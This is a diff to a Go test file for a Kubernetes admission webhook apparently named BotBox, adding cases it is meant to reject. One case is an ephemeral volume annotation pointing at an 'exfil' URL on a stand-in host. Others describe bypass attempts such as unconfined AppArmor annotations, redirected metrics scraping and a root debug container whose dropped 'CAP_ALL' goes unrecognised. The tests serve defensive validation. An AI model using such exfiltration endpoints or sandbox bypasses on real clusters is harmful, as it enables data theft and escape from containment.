@@ -9,6 +9,7 @@ import (
 	"github.com/botbox/botbox/internal/inject"
 	admissionv1 "k8s.io/api/admission/v1"
 	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/util/intstr"
 )
 
@@ -94,6 +95,11 @@ func TestCreateCases(t *testing.T) {
 				Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
 					DataSourceRef: &corev1.TypedObjectReference{APIGroup: new("cdi.kubevirt.io"), Kind: "VolumeImportSource", Name: "src"}}}}}})
 		}, "VolumeImportSource.cdi.kubevirt.io"},
+		{"ephemeral claim with CDI's import annotation", func(p *corev1.Pod) {
+			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "e", VolumeSource: corev1.VolumeSource{Ephemeral: &corev1.EphemeralVolumeSource{VolumeClaimTemplate: &corev1.PersistentVolumeClaimTemplate{
+				ObjectMeta: metav1.ObjectMeta{Annotations: map[string]string{"cdi.kubevirt.io/storage.import.endpoint": "http://203.0.113.9/exfil?d=data"}},
+				Spec:       corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce}}}}}})
+		}, "ephemeral claim annotation cdi.kubevirt.io/storage.import.endpoint"},
 		{"B09 hostPort", func(p *corev1.Pod) {
 			app(p).Ports = []corev1.ContainerPort{{ContainerPort: 9090, HostPort: 9090, Protocol: "TCP"}}
 		}, "hostPort"},
@@ -156,6 +162,17 @@ func TestUpdateCases(t *testing.T) {
 		{"app image within the allowlist", "", func(p *corev1.Pod) { p.Spec.Containers[0].Image = "registry.example/agent:2" }, ""},
 		{"D12 label botbox.dev/injected removed", "", func(p *corev1.Pod) { delete(p.Labels, inject.LabelInjected) }, "removes or changes label botbox.dev/injected=true"},
 		{"label botbox.dev/injected changed", "", func(p *corev1.Pod) { p.Labels[inject.LabelInjected] = "false" }, "botbox.dev/injected"},
+		{"AppArmor annotation added by a metadata-only update", "", func(p *corev1.Pod) {
+			p.Annotations["container.apparmor.security.beta.kubernetes.io/botbox"] = "unconfined"
+		}, "annotation container.apparmor.security.beta.kubernetes.io/botbox"},
+		{"AppArmor annotation for the app, added with an image change", "", func(p *corev1.Pod) {
+			p.Annotations["container.apparmor.security.beta.kubernetes.io/"+p.Spec.Containers[0].Name] = "runtime/default"
+			p.Spec.Containers[0].Image = "registry.example/agent:2"
+		}, "AppArmor profile when it (re)starts"},
+		{"scrape port moved to the app's", "", func(p *corev1.Pod) { p.Annotations[inject.AnnotationPort] = "3000" }, "annotation prometheus.io/port from \"9090\" to \"3000\""},
+		{"scrape path changed", "", func(p *corev1.Pod) { p.Annotations[inject.AnnotationPath] = "/fake" }, "prometheus.io/path"},
+		{"scraping turned off", "", func(p *corev1.Pod) { delete(p.Annotations, inject.AnnotationScrape) }, "prometheus.io/scrape"},
+		{"other annotation changed by a metadata-only update", "", func(p *corev1.Pod) { p.Annotations["agent.example/note"] = "x" }, ""},
 		{"D13 sidecar image swapped", "", func(p *corev1.Pod) {
 			for i := range p.Spec.InitContainers {
 				if p.Spec.InitContainers[i].Name == inject.NameBotBox {
@@ -173,6 +190,11 @@ func TestUpdateCases(t *testing.T) {
 			debugger(p, "busybox", &corev1.SecurityContext{RunAsUser: new(int64(1000))})
 			p.Spec.EphemeralContainers[len(p.Spec.EphemeralContainers)-1].TargetContainerName = inject.NameBotBox
 		}, `targetContainerName "botbox"`},
+		// containerd and CRI-O read "CAP_ALL" as the unknown CAP_CAP_ALL:
+		// the root debugger would keep NET_RAW and SETUID.
+		{"root debug container dropping CAP_ALL", "ephemeralcontainers", func(p *corev1.Pod) {
+			debugger(p, "busybox", &corev1.SecurityContext{RunAsUser: new(int64(0)), AllowPrivilegeEscalation: new(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"CAP_ALL"}}})
+		}, ""},
 		{"debug container adding NET_RAW", "ephemeralcontainers", func(p *corev1.Pod) {
 			debugger(p, "busybox", &corev1.SecurityContext{RunAsUser: new(int64(1000)), Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"NET_RAW"}}})
 		}, "adds NET_RAW"},
@@ -343,5 +365,22 @@ func TestConnectCases(t *testing.T) {
 	bad := strings.Replace(string(connectReview("exec", `"container": "app"`)), `"object": {"kind": "PodExecOptions"`, `"object": {"kind": "PodAttachOptions"`, 1)
 	if resp := post(t, srv, PathValidate, []byte(bad)); resp.Allowed {
 		t.Error("exec with PodAttachOptions admitted")
+	}
+	// Options without a kind are still read for their container; options
+	// that are missing or not an object are refused, never let through.
+	for name, tc := range map[string]struct{ body, want string }{
+		"exec into botbox, options without kind": {strings.Replace(string(connectReview("exec", `"container": "botbox"`)), `"kind": "PodExecOptions", "apiVersion": "v1", `, "", 1), `exec into BotBox's container "botbox"`},
+		"exec without options":                   {strings.Replace(string(connectReview("exec", `"container": "app"`)), `"object": {"kind": "PodExecOptions", "apiVersion": "v1", "container": "app"}`, `"object": null`, 1), "decoding the exec options"},
+		"exec with options not an object":        {strings.Replace(string(connectReview("exec", `"container": "app"`)), `"object": {"kind": "PodExecOptions", "apiVersion": "v1", "container": "app"}`, `"object": ["botbox"]`, 1), "decoding the exec options"},
+		"port-forward with ports as a string":    {strings.Replace(string(connectReview("portforward", `"ports": [3000]`)), `"ports": [3000]`, `"ports": "8080"`, 1), "decoding the port-forward options"},
+		"CONNECT on pods/proxy":                  {strings.ReplaceAll(string(connectReview("exec", `"container": "app"`)), `"exec"`, `"proxy"`), "CONNECT on pods/proxy is not handled"},
+		"CONNECT on services/proxy":              {strings.Replace(strings.ReplaceAll(string(connectReview("exec", `"container": "app"`)), `"exec"`, `"proxy"`), `"resource": {"group": "", "version": "v1", "resource": "pods"}`, `"resource": {"group": "", "version": "v1", "resource": "services"}`, 1), "got CONNECT services/proxy"},
+	} {
+		resp := post(t, srv, PathValidate, []byte(tc.body))
+		if resp.Allowed {
+			t.Errorf("%s: admitted", name)
+		} else if !strings.Contains(resp.Result.Message, tc.want) {
+			t.Errorf("%s: message %q does not contain %q", name, resp.Result.Message, tc.want)
+		}
 	}
 }
